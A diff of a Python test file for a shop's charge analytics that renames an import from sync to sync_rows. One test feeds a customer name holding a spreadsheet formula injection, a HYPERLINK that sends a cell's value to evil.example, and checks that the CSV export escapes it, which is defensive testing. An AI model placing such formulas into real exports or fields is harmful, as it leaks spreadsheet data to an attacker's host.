@@ -10,7 +10,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from shop import analytics, sync
+from shop import analytics, sync_rows
 from shop.db import get_engine
 from tests.support_data import FIXTURE, charge_object, store_charges, ts
 
@@ -132,7 +132,7 @@ def test_recovered_orders_count_only_a_later_success_with_another_card(frame):
     same_card_retry = charge_object(
         "ch_f2", ts(15, 13), 3000, email="eve@example.com", last4="0002", order_id="SP-FFFF0001"
     )
-    with_retry = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync.charge_row(same_card_retry)]))])
+    with_retry = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(same_card_retry)]))])
     recovered = analytics.recovered_orders(with_retry)
     assert list(recovered["order_id"]) == ["SP-DDDD0001"]
     row = recovered.iloc[0]
@@ -158,7 +158,7 @@ def test_the_time_to_recover_reads_in_minutes_hours_or_days(frame, waited, shown
 def test_an_authorization_never_captured_does_not_make_a_repeat_customer(frame):
     # gus@example.com has one uncaptured charge (ch_g) in the fixture; one paid order more is still one paid order.
     paid = charge_object("ch_g2", ts(18, 15), 2500, email="gus@example.com", order_id="SP-GGGG0002")
-    with_paid = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync.charge_row(paid)]))])
+    with_paid = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(paid)]))])
     assert "gus@example.com" not in set(analytics.repeat_customers(with_paid)["receipt_email"])
 
 
@@ -174,7 +174,7 @@ def test_charges_csv_writes_a_customer_formula_as_text(frame):
     hostile = charge_object(
         "ch_x1", ts(15, 14), 2300, email="=1+1@example.com", name='=HYPERLINK("http://evil.example/?"&B2,"Open")'
     )
-    rows = analytics.prepare_charges(pd.DataFrame([sync.charge_row(hostile)]))
+    rows = analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(hostile)]))
     [row] = csv.DictReader(io.StringIO(analytics.charges_csv(rows).decode()))
     assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?"&B2,"Open")'
     assert row["receipt_email"] == "'=1+1@example.com"
